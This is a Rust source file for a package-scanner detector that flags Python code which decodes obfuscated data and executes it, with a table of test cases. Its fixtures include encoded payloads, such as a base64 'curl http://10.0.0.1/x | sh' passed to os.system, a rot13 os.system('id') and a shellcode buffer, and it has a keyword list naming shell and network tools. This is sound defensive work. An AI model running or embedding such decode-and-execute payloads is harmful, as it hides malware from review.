//! `obfuscation.decode-exec`: decoded data fed to something that runs it —
//! `exec`/`eval`/`compile`, `types.FunctionType`, `os.system`/`os.popen`, `subprocess`
//! (`python -c <decoded>`), `pty.spawn`, and for literal payloads also `pickle.loads`,
//! `marshal.loads` and `ctypes` buffers (shellcode). Decoders: base64/32/16/85,
//! `decodebytes`, `fromhex`/`unhexlify`, `zlib`/`bz2`/`lzma`/`gzip` `decompress`,
//! `marshal.loads`, `codecs.decode` (rot13, hex…), reversed strings, text rebuilt from
//! character codes (`"".join(map(chr, […]))`, `chr(c ^ k) for c in …`) — directly in the
//! call, through one variable (`p = b64decode(x)` … `exec(p)`), through a decoder lambda
//! (`d = lambda s: …`) or a small helper function in the same module
//! (`def d(s): return base64.b64decode(s)` … `exec(d(x))`).
//!
//! When the payload is a literal (or a name bound to one in the file), it is decoded
//! ([`super::fold`], bounded) and the indicator says what it decodes to; a payload that
//! itself runs processes, evaluates code or reaches the network is one step more severe.
//! Weighed by place (install time critical, library code high, tests/docs medium, data
//! low). Code rebuilt from what a function's caller hands it at run time (a function
//! deserialiser, a worker running what its parent sends) is Medium: inside a function not
//! run on import, fed only by its parameters, with no network read there and no call in the
//! file passing it a literal. Python code only; token-wise, so files that do not parse are still scanned.

use super::context;
use super::fold::{self, Env};
use super::pysrc::{self, MAX_HITS_PER_FILE};
use crate::model::{Category, FileRole, Severity};
use crate::scan::detector::{Detector, DetectorMeta, Hit, Hits, Interest, TextFile};
use regex::Regex;
use std::collections::{HashMap, HashSet};
use std::sync::LazyLock;

pub(crate) static META: DetectorMeta = DetectorMeta {
    id: "obfuscation.decode-exec",
    revision: 7,
    title: "Executes decoded or decompressed code.",
    category: Category::Obfuscation,
    severity: Severity::High,
    description: "Code that is decoded right before it is executed is hidden from review on purpose; it is the most common shape of malicious payloads.",
};

/// Decoders, and text rebuilt from character codes (`"".join(map(chr, [99, 117, …]))`,
/// `"".join(chr(c ^ 7) for c in …)`): a command or code spelt as numbers is hidden the same way.
const DECODERS: &str = r"b64decode|b32decode|b16decode|b85decode|a85decode|decodebytes|decodestring|urlsafe_b64decode|fromhex|unhexlify|decompress|marshal\.loads|codecs\.decode|rot_?13|\[::-1\]|map\(\s*chr\s*,|chr\(\s*\w+(?:\s*[-+^%]\s*\w+)?\s*\)\s+for\s";

/// How far (in lines) a decoded variable may be assigned before it is executed.
const VAR_WINDOW_LINES: usize = 20;

static EXEC_CALL: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(concat!(
        r"(?:^|[^.\w])(?P<name>exec|eval|compile)\s*\(|(?-u:\b)(?P<bname>(?:builtins|__builtins__)\.(?:exec|eval))\s*\(",
        r"|(?-u:\b)(?P<run>(?:types\.)?FunctionType|os\.(?:system|popen)|subprocess\.(?:Popen|call|run|check_call|check_output|getoutput|getstatusoutput)|pty\.spawn)\s*\(",
        r"|(?-u:\b)(?P<lit>(?:c?[Pp]ickle|marshal)\.loads|ctypes\.(?:create_string_buffer|memmove|c_char_p|cast)|(?:ctypes\.)?(?:c_char|c_ubyte)\s*\*\s*\w+\)\.from_buffer(?:_copy)?)\s*\(",
    ))
    .expect("exec call")
});
/// `def name(…):` — a helper whose `return` decodes makes `name` a decoder.
static DEF_LINE: LazyLock<Regex> =
    LazyLock::new(|| Regex::new(r"^([ \t]*)def[ \t]+([A-Za-z_]\w*)[ \t]*\(").expect("def line"));
/// What a decoded payload does that makes it worse.
const PAYLOAD_ACTIONS: &[&str] = &[
    "exec(",
    "eval(",
    "compile(",
    "__import__",
    "os.system",
    "popen",
    "subprocess",
    "socket",
    "urlopen",
    "urllib",
    "requests.",
    "http://",
    "https://",
    "powershell",
    "/bin/sh",
    "/bin/bash",
    "curl ",
    "wget ",
    "ctypes",
];
static DECODER: LazyLock<Regex> = LazyLock::new(|| Regex::new(&format!(r"(?:{DECODERS})")).expect("decoder"));
/// `name = …` at the start of a line (not `==`).
static ASSIGN_LHS: LazyLock<Regex> =
    LazyLock::new(|| Regex::new(r"^[ \t]*([A-Za-z_][A-Za-z0-9_]*)[ \t]*=[^=]").expect("assign lhs"));
/// `name = other(` at the start of a line: a variable assigned what a function returns.
static ASSIGN_CALL: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"(?m)^[ \t]*([A-Za-z_][A-Za-z0-9_]*)[ \t]*=[ \t]*\(?[ \t]*([A-Za-z_][A-Za-z0-9_]*)[ \t]*\)?[ \t]*\(")
        .expect("assign call")
});
static BARE_ARG: LazyLock<Regex> = LazyLock::new(|| Regex::new(r"^\s*([A-Za-z_]\w*)\s*(?:,|$)").expect("bare arg"));
/// A bare name anywhere in an argument list (not an attribute, not a call, not a keyword's
/// name): what a process sink is handed (`[sys.executable, "-c", payload]`).
static NAME_ITEM: LazyLock<Regex> =
    LazyLock::new(|| Regex::new(r"(?:^|[\[(,=]\s*)([A-Za-z_]\w*)\s*(?:[,\])]|$)").expect("name item"));
/// `exec(f(x))` / `exec((f)(x))`: the argument is a call of a name (a decoder
/// lambda or helper assigned earlier: `_ = lambda s: zlib.decompress(b64decode(s))`).
static CALLED_ARG: LazyLock<Regex> =
    LazyLock::new(|| Regex::new(r"^\s*(?:\(\s*([A-Za-z_]\w*)\s*\)|([A-Za-z_]\w*))\s*\(").expect("called arg"));

/// The call's argument text (balanced parentheses, at most 4 KiB).
fn argument(text: &str, after_paren: usize) -> &str {
    pysrc::call_argument(text, after_paren, 4096)
}

pub(crate) struct DecodeExec;

impl Detector for DecodeExec {
    fn meta(&self) -> &'static DetectorMeta {
        &META
    }
    fn interest(&self) -> Interest {
        Interest::Literals(&[
            "exec",
            "eval",
            "compile(",
            "FunctionType",
            "system(",
            "popen(",
            "subprocess",
            "pty.spawn",
            "ickle.loads",
            "marshal.loads",
            "ctypes",
        ])
    }
    fn scan_text(&self, file: &TextFile<'_>, hits: &mut Hits) {
        if !file.is_python {
            return;
        }
        // Every hit needs a decoder somewhere in the file: one DFA pass decides.
        if !DECODER.is_match(file.text) {
            return;
        }
        let src = file.source();
        let env = Env::new(file.text);
        // Variables assigned from a decoder, in code.
        // Variables assigned from a decoder in code, with the line of each assignment.
        let lines = file.source().lines();
        let line_of = |o: usize| lines.line(o);
        let mut decoded: HashMap<&str, Vec<usize>> = HashMap::new();
        let mut helpers: HashSet<&str> = HashSet::new();
        for d in DECODER.find_iter(file.text) {
            if !src.is_code(d.start()) {
                continue;
            }
            let ls = file.text[..d.start()].rfind('\n').map_or(0, |p| p + 1);
            if let Some(var) = ASSIGN_LHS.captures(&file.text[ls..d.start()]).and_then(|c| c.get(1)) {
                decoded.entry(var.as_str()).or_default().push(line_of(d.start()));
            } else if let Some(name) = helper_returning(file.text, ls) {
                helpers.insert(name);
            }
        }
        // A variable assigned the result of a decoder lambda or helper is decoded too
        // (`for _ in range(9): code = layer(code)` … `exec(code)`), once more per pass so
        // a chain of two names resolves.
        if !decoded.is_empty() || !helpers.is_empty() {
            for c in ASSIGN_CALL.captures_iter(file.text) {
                let (var, f) = (c.get(1).expect("var"), c.get(2).expect("fn"));
                let from_decoder = decoded.contains_key(f.as_str()) || helpers.contains(f.as_str());
                if from_decoder && src.is_code(f.start()) {
                    decoded.entry(var.as_str()).or_default().push(line_of(f.start()));
                }
            }
        }
        let mut n = 0;
        for c in EXEC_CALL.captures_iter(file.text) {
            if n >= MAX_HITS_PER_FILE {
                return;
            }
            let name = c.name("name").or(c.name("bname")).or(c.name("run")).or(c.name("lit")).expect("name");
            if !src.is_code(name.start()) {
                continue;
            }
            let literal_only = c.name("lit").is_some();
            let arg = argument(file.text, c.get(0).expect("m").end());
            let base = c.get(0).expect("m").end();
            let direct = DECODER.find_iter(arg).find(|d| src.is_code(base + d.start()));
            let exec_line = line_of(name.start());
            let recent = |v: &regex::Match<'_>| {
                decoded
                    .get(v.as_str())
                    .is_some_and(|ls| ls.iter().any(|&l| l <= exec_line && exec_line - l <= VAR_WINDOW_LINES))
            };
            // `exec(compile(code, "<x>", "exec"))`: what is compiled is what runs.
            let inner = arg.trim_start().strip_prefix("compile(").unwrap_or(arg);
            // A process sink runs its whole argument list: a decoded name in any place of it
            // counts (`subprocess.Popen([sys.executable, "-c", payload])`).
            let in_list = || {
                let items = NAME_ITEM.captures_iter(arg).filter_map(|v| v.get(1));
                items.filter(|v| src.is_code(base + v.start())).find(|v| recent(v))
            };
            let via_var = BARE_ARG
                .captures(inner)
                .and_then(|v| v.get(1))
                .filter(|v| recent(v))
                .or_else(|| c.name("run").and_then(|_| in_list()));
            let called = CALLED_ARG.captures(inner).and_then(|v| v.get(1).or(v.get(2)));
            let via_call = called.filter(|v| recent(v) || helpers.contains(v.as_str()));
            let sink = name.as_str().split_whitespace().collect::<String>();
            let sink = sink.split('(').next().unwrap_or(&sink);
            let ind = match (direct, via_var, via_call) {
                (Some(d), _, _) => format!("{sink}({})", d.as_str()),
                (None, Some(v), _) => format!("{sink}({} ← decoded)", v.as_str()),
                (None, None, Some(v)) => format!("{sink}({}(…) ← decoder)", v.as_str()),
                _ => continue,
            };
            // The payload, when it is a literal (or a name bound to one): what it decodes to.
            let first = fold::split_args(arg).into_iter().next().unwrap_or("");
            let payload = fold::eval(first, &env).and_then(|v| match v {
                fold::Value::Bytes(b) => Some(b),
                fold::Value::Str(s) => Some(s.into_bytes()),
                _ => None,
            });
            if literal_only && payload.is_none() {
                continue;
            }
            let mut severity = Severity::High;
            // Code handed over at run time (a function rebuilding a function its caller
            // serialised, a worker running what its parent sends) is a deserialiser, not a
            // payload hidden in the package: Medium, when nothing in the file feeds it one.
            let from_caller = payload.is_none()
                && file.role == FileRole::Runtime
                && !pysrc::runs_on_import_at(src, name.start())
                && from_parameters(file.text, name.start(), arg, &env);
            if from_caller {
                severity = Severity::Medium;
            }
            let ind = match &payload {
                Some(p) => {
                    let text = String::from_utf8_lossy(p);
                    if PAYLOAD_ACTIONS.iter().any(|a| text.contains(a)) {
                        severity = Severity::Critical;
                    }
                    format!("{ind} → \"{}\"", fold::preview(p, 40))
                }
                None => ind,
            };
            n += 1;
            let sev = Some(context::weigh(file, severity));
            hits.push(&META, Hit { severity: sev, evidence: pysrc::evidence(file, name.start(), ind) });
        }
    }
}

/// What a network read looks like in a function body: code it decodes came from outside.
const NETWORK_READS: &[&str] =
    &["socket", "recv", "urlopen", "urllib", "requests", "http", "websocket", "paramiko", "download", "fetch"];

/// Whether what the call at `at` runs (its argument text `arg`) comes only from the
/// parameters of the function it sits in (not `self`/`cls`: an attribute can hold a literal),
/// through assignments in that function, with no network read in it, and no call of the
/// function in the file hands it a literal (`run(BLOB)` is a payload again).
/// The longest function body [`from_parameters`] reads, in bytes.
const MAX_CALLER_BODY: usize = 64 << 10;
/// The most names [`from_parameters`] follows through assignments.
const MAX_TAINTED: usize = 64;

fn from_parameters(text: &str, at: usize, arg: &str, env: &Env<'_>) -> bool {
    let Some((def_start, fname, params)) = enclosing_def(text, at) else {
        return false;
    };
    let mut tainted: Vec<&str> = fold::split_args(params)
        .into_iter()
        .filter_map(|p| {
            let p = p.trim().trim_start_matches('*');
            let name = p.split([':', '=']).next().unwrap_or("").trim();
            (!name.is_empty() && name != "self" && name != "cls").then_some(name)
        })
        .collect();
    if tainted.is_empty() {
        return false;
    }
    // Package input: a function body longer than this is not judged (the finding keeps its
    // severity), so the taint walk below (lines × names) stays bounded.
    if at - def_start > MAX_CALLER_BODY {
        return false;
    }
    let body = &text[def_start..at];
    let lower = body.to_ascii_lowercase();
    if NETWORK_READS.iter().any(|w| lower.contains(w)) {
        return false;
    }
    let mentions = |expr: &str, names: &[&str]| {
        names.iter().any(|n| expr.match_indices(n).any(|(i, _)| word_at(expr, i, n.len())))
    };
    for line in body.lines() {
        if let Some(c) = ASSIGN_LHS.captures(line) {
            let var = c.get(1).expect("var");
            let rhs = &line[c.get(0).expect("m").end() - 1..];
            if mentions(rhs, &tainted) && !tainted.contains(&var.as_str()) {
                if tainted.len() == MAX_TAINTED {
                    return false;
                }
                tainted.push(var.as_str());
            }
        }
    }
    if !mentions(arg, &tainted) {
        return false;
    }
    // A call of the function with a literal (or a name bound to one) as its first argument.
    let call = format!("{fname}(");
    !text.match_indices(&call).any(|(i, _)| {
        let b = text.as_bytes();
        let called =
            (i == 0 || !(b[i - 1].is_ascii_alphanumeric() || b[i - 1] == b'_')) && word_at(&text[i..], 0, fname.len());
        called && !pysrc::is_definition(text, i) && {
            let args = pysrc::call_argument(text, i + call.len(), 4096);
            let first = fold::split_args(args).into_iter().next().unwrap_or("");
            matches!(fold::eval(first, env), Some(fold::Value::Bytes(_) | fold::Value::Str(_)))
        }
    })
}

/// `name` at byte `i` of `s` is a whole word (not part of a longer name or an attribute).
fn word_at(s: &str, i: usize, len: usize) -> bool {
    let b = s.as_bytes();
    let ident = |c: u8| c.is_ascii_alphanumeric() || c == b'_';
    (i == 0 || !ident(b[i - 1]) && b[i - 1] != b'.') && b.get(i + len).is_none_or(|&c| !ident(c))
}

/// The `def` whose body holds byte `at`: its start, name and parameter text. `None` at
/// module level (a line less indented than `at`'s that is no `def` comes first).
fn enclosing_def(text: &str, at: usize) -> Option<(usize, &str, &str)> {
    let ls = text[..at].rfind('\n').map_or(0, |p| p + 1);
    let line = &text[ls..];
    let mut indent = line.len() - line.trim_start_matches([' ', '\t']).len();
    let mut end = ls;
    while indent > 0 && end > 0 {
        let start = text[..end - 1].rfind('\n').map_or(0, |p| p + 1);
        let l = &text[start..end - 1];
        end = start;
        let body = l.trim_start_matches([' ', '\t']);
        let ind = l.len() - body.len();
        if body.is_empty() || body.starts_with('#') || ind >= indent {
            continue;
        }
        if let Some(c) = DEF_LINE.captures(l) {
            let name = c.get(2).expect("name");
            let open = start + c.get(0).expect("m").end();
            return Some((start, name.as_str(), pysrc::call_argument(text, open, 4096)));
        }
        if body.starts_with("async def") {
            return None;
        }
        // An `if`/`try`/`for`/`with`/`class` line: look further out.
        indent = ind;
    }
    None
}

/// The name of the function whose `return` statement starts the line at `line_start`,
/// when that function is defined at most 8 lines above (a small decoder helper).
fn helper_returning(text: &str, line_start: usize) -> Option<&str> {
    let line = &text[line_start..];
    let body = line.trim_start_matches([' ', '\t']);
    if !body.starts_with("return") {
        return None;
    }
    let indent = line.len() - body.len();
    let before = &text[..line_start];
    for l in before.lines().rev().take(8) {
        if let Some(c) = DEF_LINE.captures(l) {
            return (c.get(1).map_or(0, |m| m.len()) < indent).then(|| c.get(2).map(|m| m.as_str())).flatten();
        }
    }
    None
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::model::FileRole::*;
    use crate::scan::detectors::testutil::table;
    use Severity::*;

    #[test]
    fn cases() {
        table(
            &DecodeExec,
            META.id,
            &[
                (
                    "exec b64decode",
                    "pkg/a.py",
                    Runtime,
                    "import base64\nexec(base64.b64decode('aW1wb3J0IG9z'))\n",
                    Some((2, "exec(b64decode) → \"import os\"", High)),
                ),
                (
                    "shell command from a chr list through a variable",
                    "pkg/__init__.py",
                    Runtime,
                    "import subprocess\n_c = ''.join(map(chr, [105, 100, 59, 32, 99, 117, 114, 108, 32, 120]))\nsubprocess.Popen(_c, shell=True)\n",
                    Some((3, "subprocess.Popen(_c ← decoded) → \"id; curl x\"", Critical)),
                ),
                (
                    "code from xored char codes in a comprehension",
                    "pkg/a.py",
                    Runtime,
                    "k = 7\ncode = ''.join(chr(c ^ k) for c in [110, 106, 119, 104, 117, 115, 39, 104, 116])\nexec(code)\n",
                    Some((3, "exec(code ← decoded) → \"import os\"", High)),
                ),
                (
                    "an alphabet from chr codes, nothing run",
                    "pkg/a.py",
                    Runtime,
                    "ALPHABET = ''.join(map(chr, range(97, 123)))\nexec(open('v.py').read())\n",
                    None,
                ),
                (
                    "setup.py zlib",
                    "setup.py",
                    InstallTime,
                    "exec(zlib.decompress(b'x\\x9c'))\n",
                    Some((1, "exec(decompress)", Critical)),
                ),
                ("marshal", "pkg/a.py", Runtime, "exec(marshal.loads(data))\n", Some((1, "exec(marshal.loads)", High))),
                (
                    "through a variable",
                    "pkg/a.py",
                    Runtime,
                    "p = bytes.fromhex(H).decode()\nx = 1\nexec(p)\n",
                    Some((3, "exec(p ← decoded)", High)),
                ),
                ("reversed string", "pkg/a.py", Runtime, "eval(s[::-1])\n", Some((1, "eval([::-1])", High))),
                (
                    "layers peeled in a loop by a decoder lambda",
                    "pkg/sync.py",
                    Runtime,
                    "import base64 as b, zlib as z\npeel = lambda s: z.decompress(b.b64decode(s))\ncode = BLOB\nfor _ in range(3):\n    code = peel(code)\nexec(code)\n",
                    Some((6, "exec(code ← decoded)", High)),
                ),
                (
                    "a decoded variable compiled inside exec",
                    "pkg/a.py",
                    Runtime,
                    "code = base64.b64decode(S)\nexec(compile(code, '<x>', 'exec'))\n",
                    Some((2, "exec(code ← decoded)", High)),
                ),
                (
                    "decoded source handed to python -c in an argument list, at install",
                    "setup.py",
                    InstallTime,
                    "payload = base64.b64decode(P).decode()\nsubprocess.Popen([sys.executable, '-c', payload])\n",
                    Some((2, "subprocess.Popen(payload ← decoded)", Critical)),
                ),
                (
                    "a decoded name only as a keyword's value of a process call still counts",
                    "pkg/a.py",
                    Runtime,
                    "cmd = codecs.decode(C, 'rot13')\nsubprocess.run(args=cmd, shell=True)\n",
                    Some((2, "subprocess.run(cmd ← decoded)", High)),
                ),
                (
                    "a decoded name used only as an attribute's owner is not the argument",
                    "pkg/a.py",
                    Runtime,
                    "cfg = base64.b64decode(C)\nsubprocess.run(['tool', str(len(cfg.split()))])\n",
                    None,
                ),
                (
                    "a helper's result through a variable",
                    "pkg/a.py",
                    Runtime,
                    "def unpack(s):\n    return base64.b64decode(s)\nsrc = unpack(S)\nexec(src)\n",
                    Some((4, "exec(src ← decoded)", High)),
                ),
                (
                    "a cache backend's helper result unpickled (not a literal payload)",
                    "pkg/cache.py",
                    Runtime,
                    "def _load(raw):\n    return zlib.decompress(raw)\nvalue = _load(blob)\nobj = pickle.loads(value)\n",
                    None,
                ),
                (
                    "rot13",
                    "pkg/a.py",
                    Runtime,
                    "exec(codecs.decode(s, 'rot13'))\n",
                    Some((1, "exec(codecs.decode)", High)),
                ),
                ("exec of a plain name", "pkg/a.py", Runtime, "code = open(p).read()\nexec(code)\n", None),
                (
                    "decode without exec",
                    "pkg/a.py",
                    Runtime,
                    "data = base64.b64decode(s)\nprint(data)\nevaluate(data)\n",
                    None,
                ),
                ("in a docstring", "pkg/a.py", Runtime, "\"\"\"exec(base64.b64decode(x))\"\"\"\n", None),
                ("decoder name only in a string arg", "pkg/a.py", Runtime, "eval('zlib')\n", None),
                ("json then eval", "pkg/a.py", Runtime, "x = json.loads(s)\neval(x)\n", None),
                (
                    "a function rebuilt from the code its caller serialised (a deserialiser)",
                    "pkg/utils.py",
                    Runtime,
                    "def func_load(code, defaults=None):\n    if isinstance(code, tuple):\n        code, defaults = code\n    raw = codecs.decode(code.encode('ascii'), 'base64')\n    code = marshal.loads(raw)\n    return types.FunctionType(code, globals(), argdefs=defaults)\n",
                    Some((6, "types.FunctionType(code ← decoded)", Medium)),
                ),
                (
                    "a worker running what its parent writes to its pipe",
                    "pkg/isolated/_child.py",
                    Runtime,
                    "def run_next(read_fh, write_fh):\n    line = read_fh.readline()\n    code = loads(b64decode(line.strip()))\n    f = types.FunctionType(code, {})\n    return f()\n\nif __name__ == '__main__':\n    run_next(sys.stdin, sys.stdout)\n",
                    Some((4, "types.FunctionType(code ← decoded)", Medium)),
                ),
                (
                    "the same helper handed a literal payload by a call in the file stays high",
                    "pkg/utils.py",
                    Runtime,
                    "def run(data):\n    exec(base64.b64decode(data))\n\ndef main():\n    run('aW1wb3J0IG9z')\n",
                    Some((2, "exec(b64decode)", High)),
                ),
                (
                    "a method handed a module constant stays high",
                    "pkg/utils.py",
                    Runtime,
                    "BLOB = 'aW1wb3J0IG9z'\nclass C:\n    def run(self, data):\n        exec(base64.b64decode(data))\n\ndef main():\n    C().run(BLOB)\n",
                    Some((4, "exec(b64decode)", High)),
                ),
                (
                    "code read from a socket in the function stays high",
                    "pkg/agent.py",
                    Runtime,
                    "def loop(sock):\n    data = sock.recv(65536)\n    exec(zlib.decompress(data))\n",
                    Some((3, "exec(decompress)", High)),
                ),
                (
                    "a parameter-fed decoder called on import stays high",
                    "pkg/__init__.py",
                    Runtime,
                    "def boot(data):\n    exec(base64.b64decode(data))\n\nboot(open(p).read())\n",
                    Some((2, "exec(b64decode)", High)),
                ),
                (
                    "a payload in an attribute of self stays high",
                    "pkg/utils.py",
                    Runtime,
                    "class C:\n    payload = 'aW1wb3J0IG9z'\n    def run(self):\n        exec(base64.b64decode(self.payload))\n",
                    Some((4, "exec(b64decode)", High)),
                ),
                (
                    "a parameter-fed decoder in setup.py stays critical",
                    "setup.py",
                    InstallTime,
                    "def run(data):\n    exec(base64.b64decode(data))\n",
                    Some((2, "exec(b64decode)", Critical)),
                ),
                (
                    "decoder lambda via __import__, called inside exec",
                    "pkg/__init__.py",
                    Runtime,
                    "import base64\n_ = lambda __ : __import__('zlib').decompress(__import__('base64').b64decode(__[::-1]));exec((_)(b'=Q'))\n",
                    Some((2, "exec(_(…) ← decoder)", High)),
                ),
                (
                    "decoder helper called bare inside eval",
                    "setup.py",
                    InstallTime,
                    "d = lambda s: codecs.decode(s, 'rot13')\neval(d(P))\n",
                    Some((2, "eval(d(…) ← decoder)", Critical)),
                ),
                (
                    "__import__ of importlib then exec of a call",
                    "pkg/a.py",
                    Runtime,
                    "m = __import__('importlib').import_module(name)\nexec(m.source(x))\n",
                    None,
                ),
                (
                    "helper function defined in the module",
                    "pkg/__init__.py",
                    Runtime,
                    "import base64\n\ndef d(s):\n    return base64.b64decode(s)\n\nX = 'aW1wb3J0IG9z'\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\nexec(d(X))\n",
                    Some((28, "exec(d(…) ← decoder)", High)),
                ),
                (
                    "python -c with a decoded payload",
                    "setup.py",
                    InstallTime,
                    "subprocess.Popen([sys.executable, '-c', base64.b64decode(P).decode()])\n",
                    Some((1, "subprocess.Popen(b64decode)", Critical)),
                ),
                (
                    "os.system of a literal payload that fetches",
                    "pkg/a.py",
                    Runtime,
                    "os.system(base64.b64decode('Y3VybCBodHRwOi8vMTAuMC4wLjEveCB8IHNo').decode())\n",
                    Some((1, "os.system(b64decode) → \"curl http://10.0.0.1/x | sh\"", Critical)),
                ),
                (
                    "FunctionType of marshalled code through a variable",
                    "pkg/a.py",
                    Runtime,
                    "code = marshal.loads(zlib.decompress(blob))\nf = types.FunctionType(code, globals())\n",
                    Some((2, "types.FunctionType(code ← decoded)", High)),
                ),
                (
                    "ctypes buffer of literal shellcode",
                    "pkg/a.py",
                    Runtime,
                    "buf = ctypes.create_string_buffer(bytes.fromhex('fc4883e4f0e8c0000000'))\n",
                    Some((1, "ctypes.create_string_buffer(fromhex) → \"·H········\"", High)),
                ),
                (
                    "rot13 payload bound to a module name",
                    "pkg/a.py",
                    Runtime,
                    "P = 'vzcbeg bf; bf.flfgrz(\"vq\")'\nexec(codecs.decode(P, 'rot13'))\n",
                    Some((2, "exec(codecs.decode) → \"import os; os.system(\"id\")\"", Critical)),
                ),
                (
                    "tests weigh medium",
                    "pkg/tests/test_a.py",
                    TestOrDocs,
                    "exec(base64.b64decode(x))\n",
                    Some((1, "exec(b64decode)", Medium)),
                ),
                (
                    "python 2 file with a syntax error",
                    "pkg/a.py",
                    Runtime,
                    "print 'x'\ndef f(:\nexec(zlib.decompress(b))\n",
                    Some((3, "exec(decompress)", High)),
                ),
                (
                    "cache backend unpickles decompressed data (not a literal)",
                    "pkg/cache.py",
                    Runtime,
                    "def get(self, value):\n    return pickle.loads(zlib.decompress(value))\n",
                    None,
                ),
                (
                    "subprocess without a decoder",
                    "pkg/a.py",
                    Runtime,
                    "data = base64.b64decode(s)\nsubprocess.run(['ls'])\n",
                    None,
                ),
                (
                    "exec of a plain function call, no decoder",
                    "pkg/a.py",
                    Runtime,
                    "data = base64.b64decode(s)\nload = lambda p: open(p).read()\nexec(load(path))\n",
                    None,
                ),
            ],
        );
    }
}
